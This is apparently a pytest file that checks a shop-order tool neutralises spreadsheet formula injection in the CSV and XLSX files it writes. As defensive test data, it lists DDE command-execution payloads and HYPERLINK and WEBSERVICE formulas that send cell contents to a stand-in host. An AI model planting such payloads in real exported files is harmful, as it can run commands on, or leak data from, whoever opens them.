"""No file that is written holds a cell that a spreadsheet would run; and a rejected row that comes back is what it was."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shopguard.core.beijing import parse_iso
from shopguard.core.spreadsheet_text import guarded, unguarded
from shopguard.flows.costs.call_sheet import call_sheet
from shopguard.flows.costs.call_sheet_files import save_call_sheet
from shopguard.flows.imports.import_report import FileResult
from shopguard.flows.imports.importing import import_files
from shopguard.flows.workplace import Workplace
from shopguard.importers.opening import open_tables
from shopguard.importers.source import expand
from shopguard.store.sealing import KeptFile
from tests.conftest import ROOT

NOW = parse_iso("2026-11-22T12:00:00")
BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
RUNS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"看这里")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1", "''=1+1",
    '=WEBSERVICE("http://example.invalid/"&A1)', '="6900"&A1', "+86 138", "@小明",
)  # fmt: skip
STAYS = (
    "", "-", "--", "+", "-12.50", "+3", "-1,299.00", "-5%", "\t6900000000000000011", "6900000000000000011\t", '="6900000000000000011"',
    "'", "'abc", "1=1", "演示", "''",
)  # fmt: skip
HEADER = "主订单编号,子订单编号,订单状态,支付完成时间,承诺发货时间,订单应付金额,选购商品,商家备注"
TEXTS = st.text(alphabet=st.sampled_from("=+-@'＝\t\r\n \"1a,.%无"), max_size=8) | st.text(max_size=12)


def dangerous(cell: str) -> bool:
    """Written anew, by the list of what spreadsheets run: whatever stands behind blanks and is no plain number."""
    bare = cell.strip()
    if not bare.startswith(BEGINS) or set(bare) <= set(BEGINS):
        return False
    number = bare.lstrip("+-").rstrip("%").replace(",", "").replace(".", "", 1)
    quoted = bare.startswith('="') and bare.endswith('"') and bare[2:-1].replace("-", "").replace("_", "").isalnum()
    return not (number.isdecimal() and bare[0] in "+-" and bare[1:2].isdecimal()) and not (quoted or bare == '=""')


@pytest.mark.parametrize("cell", RUNS)
def test_what_would_run_does_not_and_comes_back(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", STAYS)
def test_what_would_not_run_stays(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@given(TEXTS)
def test_every_text_comes_back(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert not dangerous(guarded(cell))


def row(number: int, cell: str) -> str:
    """A row whose time cannot be read, with the cell in two columns, one of them the last."""
    written = io.StringIO()
    order = f"69000000000000{number:05d}"
    cells = [order, order, "待发货", "昨天", "2026-11-20 09:00:30", "39.90", cell, cell]
    csv.writer(written).writerow(cells)
    return written.getvalue()


def bring(place: Workplace, path: Path) -> FileResult:
    [file] = import_files(place, [path], now=NOW, as_of=NOW).files
    return file


def rejected(place: Workplace, tmp_path: Path) -> Path:
    path = tmp_path / "orders.csv"
    extra = f"{HEADER},=evil()\n"
    rows = "".join(row(number, cell) for number, cell in enumerate((*RUNS, *STAYS)))
    path.write_text(extra + rows, encoding="utf-8-sig", newline="")
    file = bring(place, path)
    assert (file.rejected, file.added) == (len(RUNS) + len(STAYS), 0)
    assert file.rejects_path is not None
    return file.rejects_path


def table(place: Workplace, path: Path) -> list[list[str]]:
    with io.TextIOWrapper(KeptFile(place.data, path).open("rb"), encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_a_list_of_rejected_rows_runs_nothing(place: Workplace, tmp_path: Path) -> None:
    rows = table(place, rejected(place, tmp_path))
    assert [cell for row in rows for cell in row if dangerous(cell)] == []
    assert rows[0][8] == "'=evil()"


def test_rejected_rows_come_back_as_they_were(place: Workplace, tmp_path: Path) -> None:
    """Not mended: the same rows are rejected with the very same cells. Mended: they are stored with them."""
    kept = rejected(place, tmp_path)
    rows = table(place, kept)
    again = tmp_path / "again.csv"
    again.write_bytes(kept.read_bytes())
    read = [
        row for part in open_tables(expand([again])[0], lambda _rows: True).tables for c in part.chunks() for row in c
    ]
    assert read[0][8] == "=evil()"
    assert [row[6] for row in read[1:]] == [*RUNS, *STAYS]
    second = bring(place, again)
    assert second.rejects_path is not None
    assert [line[:8] for line in table(place, second.rejects_path)] == [line[:8] for line in rows]
    mended = tmp_path / "mended.csv"
    mended.write_text(kept.read_text("utf-8-sig").replace("昨天", "2026-11-18 09:00:30"), encoding="utf-8", newline="")
    assert bring(place, mended).added == len(RUNS) + len(STAYS)
    products = {
        told for (told,) in place.store.connection().execute("SELECT product FROM order_line WHERE product <> ''")
    }
    assert {"=1+1", "'=1+1", "＝1+1", "@小明"} <= products


def test_a_list_that_a_spreadsheet_has_saved_comes_back_too(place: Workplace, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for line in table(place, rejected(place, tmp_path)):
        book.active.append([None if "\r" in cell else cell for cell in line])
    book.save(tmp_path / "saved.xlsx")
    [part] = open_tables(expand([tmp_path / "saved.xlsx"])[0], lambda _rows: True).tables
    read = [row for chunk in part.chunks() for row in chunk]
    assert [row[6] for row in read[1:6]] == list(RUNS[:5])


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_call_sheet_runs_nothing(place: Workplace, tmp_path: Path, ending: str) -> None:
    header = "主订单编号,子订单编号,选购商品,订单应付金额,支付完成时间,承诺发货时间,订单状态,发货时间,省,市,快递信息"
    path = tmp_path / "orders.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(header.split(","))
        for number, cell in enumerate(RUNS):
            order = f"69000000000000{number:05d}"
            times = ["2026-11-21 09:01:00", "2026-11-23 09:01:00", "已发货", "2026-11-22 10:00:00"]
            out.writerow([order, order, cell, "9.90", *times, "江苏省", "南京市", f"YT{number:013d}-圆通速递"])
    [told] = import_files(place, [path], now=NOW, as_of=NOW, shop="=1+1").files
    assert told.added == len(RUNS)
    target = tmp_path / f"sheet.{ending}"
    save_call_sheet(place, call_sheet(place, at=NOW, hours=48), target)
    if ending == "csv":
        lines = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(target).active
        assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}
        lines = [[str(cell.value or "") for cell in line] for line in sheet.iter_rows()]
    assert len(lines) > len(RUNS) // 2
    assert [cell for line in lines for cell in line if dangerous(cell)] == []


def test_whoever_writes_tables_knows_of_formulas() -> None:
    """Every module that writes CSV or XLSX takes its cells from the one that makes them harmless; the made-up shop's are our own."""
    writers = []
    for path in (ROOT / "shopguard").rglob("*.py"):
        text = path.read_text("utf-8")
        if "demo" not in path.parts and any(
            word in text for word in ("csv.writer(", "DictWriter(", "xlsxwriter.Workbook(")
        ):
            names = {node.module for node in ast.walk(ast.parse(text)) if isinstance(node, ast.ImportFrom)}
            writers.append((path.name, "shopguard.core.spreadsheet_text" in names))
    assert len(writers) >= 3
    unsafe = {name for name, safe in writers if not safe}
    assert unsafe <= {
        "kept_lists.py"
    }  # it takes lines out of a list of rejected rows, and writes the others as they stand there
